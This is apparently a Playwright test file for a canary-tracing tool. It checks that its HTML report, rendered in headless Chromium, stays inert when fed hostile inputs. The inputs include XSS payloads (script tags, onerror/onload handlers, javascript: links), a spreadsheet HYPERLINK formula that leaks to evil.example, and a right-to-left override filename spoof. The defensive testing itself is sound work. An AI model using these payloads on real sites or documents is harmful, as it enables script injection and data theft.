import { mkdirSync } from 'node:fs';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildReport, parseReport, type Report, renderHtml } from '../../src/report/index.js';
import { simulate } from '../../src/simulate/index.js';
import { launchChromium } from './chromium.js';

const SHOTS = new URL('../../.test-results/screenshots/', import.meta.url);

/** Hostile contact texts, each of which must stay text. */
const HOSTILE = [
  '<script>window.__pwned = "script"</script>',
  '"><img src=x onerror="window.__pwned = \'img\'">',
  '<a href="javascript:window.__pwned=\'link\'">click</a> javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?leak","Click me")',
  `${'A'.repeat(99_990)}<b>end</b>`,
];

/** A simulated world plus a leaked source with a hostile name and hostile contacts to its alias. */
async function hostileReport(): Promise<Report> {
  const { tracer, end } = await simulate({ seed: 5, subjects: 3, days: 120 });
  const subjectId = tracer.listCanaries()[0]!.subjectId;
  const evil = await tracer.addSource({
    name: '<img src=x onerror="window.__pwned=\'source\'"> Evil & Co "Ltd"',
  });
  const canary = await tracer.issue({
    subjectId,
    sourceId: evil.id,
    fields: ['email', 'name'],
    at: new Date(end.getTime() - 90 * 86_400_000),
  });
  for (const [i, content] of HOSTILE.entries()) {
    await tracer.record({
      id: `hostile-${i}`,
      channel: 'email',
      at: new Date(end.getTime() - (30 - i) * 86_400_000),
      to: canary.email!,
      from: `x${i}@evil.example`,
      fromName: '<svg onload="window.__pwned=\'name\'">',
      content,
    });
  }
  const report = await buildReport(tracer, { to: end, now: end });
  // A right-to-left override in a contact's text and sender: record() may refuse them, but a
  // renderer must cope with any model, so they are put in the model directly.
  return parseReport({
    ...report,
    contacts: report.contacts.map((c) =>
      c.id === 'hostile-0'
        ? { ...c, content: `invoice\u202Efdp.exe ${c.content}`, fromName: '\u202Eevil' }
        : c,
    ),
  });
}

describe('the HTML report in headless Chromium', () => {
  let browser: { context: BrowserContext; close: () => Promise<void> };
  let report: Report;

  beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true });
    [browser, report] = await Promise.all([launchChromium(), hostileReport()]);
  }, 120_000);
  afterAll(async () => browser?.close());

  /** Opens a rendering, recording console errors, page errors and every request attempted. */
  async function open(html: string): Promise<{ page: Page; errors: string[]; requests: string[] }> {
    const page = await browser.context.newPage();
    const errors: string[] = [];
    const requests: string[] = [];
    page.on('console', (m) => {
      if (m.type() === 'error' || m.type() === 'warning') errors.push(m.text());
    });
    page.on('pageerror', (e) => errors.push(e.message));
    page.on('request', (r) => requests.push(r.url()));
    await page.route('**/*', (route) => route.abort());
    await page.setContent(html, { waitUntil: 'load' });
    return { page, errors, requests };
  }

  for (const locale of ['en', 'zh-CN'] as const) {
    it(`renders in ${locale} with no console error, no request, and nothing hostile run`, async () => {
      const { page, errors, requests } = await open(await renderHtml(report, { locale }));
      expect(errors).toEqual([]);
      expect(requests.filter((u) => !u.startsWith('about:') && !u.startsWith('data:'))).toEqual([]);
      const dom = await page.evaluate(() => ({
        pwned: (window as { __pwned?: string }).__pwned ?? null,
        scripts: document.querySelectorAll('script').length,
        images: document.querySelectorAll('img, image, iframe, object, embed').length,
        links: document.querySelectorAll('a[href], [onerror], [onload], [onclick]').length,
        text: document.body.textContent ?? '',
        overflow: document.documentElement.scrollWidth - window.innerWidth,
        tallestRow: Math.max(
          ...Array.from(
            document.querySelectorAll('#log tbody tr'),
            (tr) => tr.getBoundingClientRect().height,
          ),
        ),
        lang: document.documentElement.lang,
      }));
      expect(dom.pwned).toBeNull();
      expect(dom).toMatchObject({ scripts: 0, images: 0, links: 0, lang: locale });
      expect(dom.overflow).toBeLessThanOrEqual(0);
      // The 100,000-character body is clipped and scrolls inside its cell.
      expect(dom.tallestRow).toBeLessThan(400);
      expect(dom.text).toContain('<script>window.__pwned = "script"</script>');
      expect(dom.text).toContain('=HYPERLINK(');
      expect(dom.text).toContain('invoice<U+202E>fdp.exe');
      expect(dom.text).not.toContain('\u202E');
      await page.screenshot({ path: new URL(`report-${locale}.png`, SHOTS).pathname });
      await page.close();
    });
  }

  // Regression: printed (or saved as PDF), a chain wider than the page lost its right-hand
  // nodes (the callers): the figure scrolls on screen, and paper does not scroll.
  it('regression: prints the whole chain within the page width', async () => {
    const { page } = await open(await renderHtml(report, { locale: 'en' }));
    const drawn = await page.evaluate(() =>
      Number(document.querySelector('svg.chain')!.getAttribute('width')),
    );
    // A5's printable width at 14 mm margins (120 mm at 96 dpi): narrower than the chain drawn.
    const paper = 453;
    expect(drawn).toBeGreaterThan(paper);
    await page.setViewportSize({ width: paper, height: 900 });
    await page.emulateMedia({ media: 'print' });
    const beyond = await page.evaluate(
      (width) =>
        Array.from(document.querySelectorAll('svg.chain g.node'))
          .map((g) => g.getBoundingClientRect())
          .filter((r) => r.right > width + 0.5).length,
      paper,
    );
    expect(beyond).toBe(0);
    await page.close();
  });

  it('draws one SVG node per source, data dealer and chain caller', async () => {
    const { page } = await open(await renderHtml(report, { locale: 'en' }));
    const ids = await page.evaluate(() => {
      const of = (kind: string) =>
        Array.from(document.querySelectorAll(`svg.chain g.node.${kind}`), (g) => g.getAttribute('data-id'));
      return { sources: of('source'), brokers: of('broker'), actors: of('actor') };
    });
    expect(report.brokers.length).toBeGreaterThan(0);
    expect(ids.sources.sort()).toEqual(report.sources.map((s) => s.id).sort());
    expect(ids.brokers.sort()).toEqual(report.brokers.map((b) => b.id).sort());
    expect(ids.actors.sort()).toEqual([...new Set(report.brokers.flatMap((b) => b.actorIds))].sort());
    // Every node's label fits its box: CJK labels are padded for the layout engine's narrow metrics.
    const overflowing = await page.evaluate(
      () =>
        Array.from(document.querySelectorAll('svg.chain g.node')).filter((g) => {
          const box = g.querySelector('rect')!.getBBox();
          return Array.from(g.querySelectorAll('text')).some((t) => t.getBBox().width > box.width + 0.5);
        }).length,
    );
    expect(overflowing).toBe(0);
    await page.close();
  });
});
